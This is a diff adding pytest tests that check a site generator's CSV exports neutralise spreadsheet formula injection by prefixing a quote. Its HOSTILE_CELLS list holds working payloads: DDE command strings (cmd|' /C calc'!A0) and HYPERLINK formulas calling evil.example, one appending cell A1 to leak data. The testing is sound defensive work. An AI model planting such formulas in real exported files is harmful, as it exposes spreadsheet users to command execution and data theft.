@@ -14,10 +14,11 @@ from zoneinfo import ZoneInfo
 
 import feedparser
 import pytest
+import yaml
 from bs4 import BeautifulSoup
 from icalendar import Calendar
 
-from conftest import PUBLISHED_URL, ROOT
+from conftest import PUBLISHED_URL, ROOT, copy_project
 from generator.collect import gather
 from generator.exports import DATASETS, export_files, fields
 
@@ -165,8 +166,95 @@ def test_json_and_csv_hold_the_same_documented_records(built_site, name):
     for record, row in zip(data["records"], rows):
         assert list(record) == documented and list(row) == documented
         assert isinstance(record["example"], bool)
-        expected = {k: "" if v is None else str(v).lower() if isinstance(v, bool) else str(v) for k, v in record.items()}
+        expected = {k: "" if v is None else str(v).lower() if isinstance(v, bool)
+                    else "'" + v if isinstance(v, str) and v.startswith(FORMULA) else str(v) for k, v in record.items()}
         assert row == expected
+
+
+# ---------------------------------------------------------------- formula injection (issue 19)
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet program reads as the start of a formula (OWASP)
+HOSTILE_CYCLE = "content/hohhot/example-2025.yaml"
+# (data set, the row's key, column, the text a careless or compromised account commits there)
+HOSTILE_CELLS = [
+    ("notices", "call", "title_zh", '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'),
+    ("notices", "call", "title_en", "+cmd|' /C calc'!A0"),
+    ("notices", "call", "cycle_title_zh", "=1+1"),
+    ("notices", "call", "issuer_zh", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("notices", "decision", "document", "-2+3+cmd|' /C calc'!A0"),
+    ("notices", "internal-publicity", "objection_phone", "\t=1+1"),
+    ("notices", "internal-publicity", "objection_email", "\r=HYPERLINK(\"https://evil.example/\")"),
+    ("winners", "hh25-precision", "name_zh", "=HYPERLINK(\"https://evil.example/\",\"示例精密制造有限公司\")"),
+    ("revocations", "hh25-precision", "winner_name_zh", "=HYPERLINK(\"https://evil.example/\",\"示例精密制造有限公司\")"),
+    ("winners", "hh25-logistics", "sector_zh", "-1+cmd|' /C calc'!A0"),
+    ("winners", "hh25-zhang", "employer_zh", "@SUM(A1:A9)"),
+    ("revocations", "hh25-precision", "reason_zh", "=cmd|' /C calc'!A0"),
+    ("revocations", "hh25-precision", "document", "+1+1"),
+]
+
+
+def _commit_hostile_cells(cycle: dict) -> None:
+    """Put each of HOSTILE_CELLS where the office writes it in a cycle file."""
+    notices = {n["id"]: n for n in cycle["notices"]}
+    winners = {w["id"]: w for w in cycle["winners"]}
+    revocation = cycle["revocations"][0]
+    cells = {(key, column): value for _, key, column, value in HOSTILE_CELLS}
+    notices["call"]["title"] = {"zh": cells["call", "title_zh"], "en": cells["call", "title_en"]}
+    cycle["title"]["zh"] = cells["call", "cycle_title_zh"]
+    notices["call"]["issuer"]["zh"] = cells["call", "issuer_zh"]
+    notices["decision"]["document"] = cells["decision", "document"]
+    notices["internal-publicity"]["objection"]["phone"] = cells["internal-publicity", "objection_phone"]
+    notices["internal-publicity"]["objection"]["email"] = cells["internal-publicity", "objection_email"]
+    winners["hh25-precision"]["name"]["zh"] = cells["hh25-precision", "name_zh"]  # and the revocation's winner_name_zh
+    winners["hh25-logistics"]["sector"]["zh"] = cells["hh25-logistics", "sector_zh"]
+    winners["hh25-zhang"]["employer"]["zh"] = cells["hh25-zhang", "employer_zh"]
+    assert revocation["winner"] == "hh25-precision"
+    revocation["reason"]["zh"] = cells["hh25-precision", "reason_zh"]
+    revocation["document"] = cells["hh25-precision", "document"]
+
+
+@pytest.fixture(scope="module")
+def hostile_exports(tmp_path_factory) -> dict[str, str]:
+    """The exported files of the real content with HOSTILE_CELLS committed into one example cycle."""
+    project = copy_project(tmp_path_factory.mktemp("formulas") / "project", real_content=True)
+    path = project / HOSTILE_CYCLE
+    cycle = yaml.safe_load(path.read_text(encoding="utf-8"))
+    _commit_hostile_cells(cycle)
+    path.write_text(yaml.safe_dump(cycle, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    return export_files(gather(project), TODAY, project)
+
+
+def _hostile_row(exports: dict[str, str], name: str, ext: str, key: str) -> dict:
+    if ext == "csv":
+        found = list(csv.DictReader(io.StringIO(exports[f"zh/data/{name}.csv"].removeprefix("\ufeff"))))
+    else:
+        found = json.loads(exports[f"zh/data/{name}.json"])["records"]
+    column = {"notices": "id", "winners": "id", "revocations": "winner"}[name]
+    return next(r for r in found if r["city"] == "hohhot" and r["cycle"] == "example-2025" and r[column] == key)
+
+
+@pytest.mark.parametrize(("name", "key", "column", "value"), HOSTILE_CELLS,
+                         ids=[f"{name}.{column}" for name, _, column, _ in HOSTILE_CELLS])
+def test_a_text_a_spreadsheet_would_run_as_a_formula_gets_a_quote_in_front_in_the_csv(hostile_exports, name, key, column, value):
+    assert _hostile_row(hostile_exports, name, "csv", key)[column] == "'" + value
+    assert _hostile_row(hostile_exports, name, "json", key)[column] == value  # the JSON is data, not a sheet: as it is
+
+
+def test_numbers_dates_yes_no_empty_cells_and_ordinary_text_are_written_as_they_are(hostile_exports):
+    row = _hostile_row(hostile_exports, "notices", "csv", "internal-publicity")
+    assert row["title_zh"] == "示例科技有限公司市长质量奖申报内部公示（示例）"
+    assert row["title_en"] == "Internal publicity of 示例科技有限公司's application (example)"
+    assert (row["published"], row["period_end"], row["working_days"]) == ("2025-04-07", "2025-04-11", "5")
+    assert (row["provisional"], row["example"], row["document"], row["source_url"]) == ("false", "true", "", "")
+    assert _hostile_row(hostile_exports, "winners", "csv", "hh25-zhang")["credit_code"] == ""
+    assert _hostile_row(hostile_exports, "winners", "csv", "hh25-tech")["sector_zh"] == "制造业"
+    assert _hostile_row(hostile_exports, "revocations", "csv", "hh25-precision")["grounds"] == "24.1.2"
+
+
+def test_the_data_page_says_why_a_csv_cell_may_start_with_a_quote(built_site):
+    for root, words in (("", "单引号（'）"), ("en/", "a single quote (') put in front")):
+        soup = BeautifulSoup((built_site / root / "data" / "index.html").read_text(encoding="utf-8"), "html.parser")
+        assert words in soup.select_one("article").get_text()
 
 
 def test_the_data_holds_the_content(built_site):
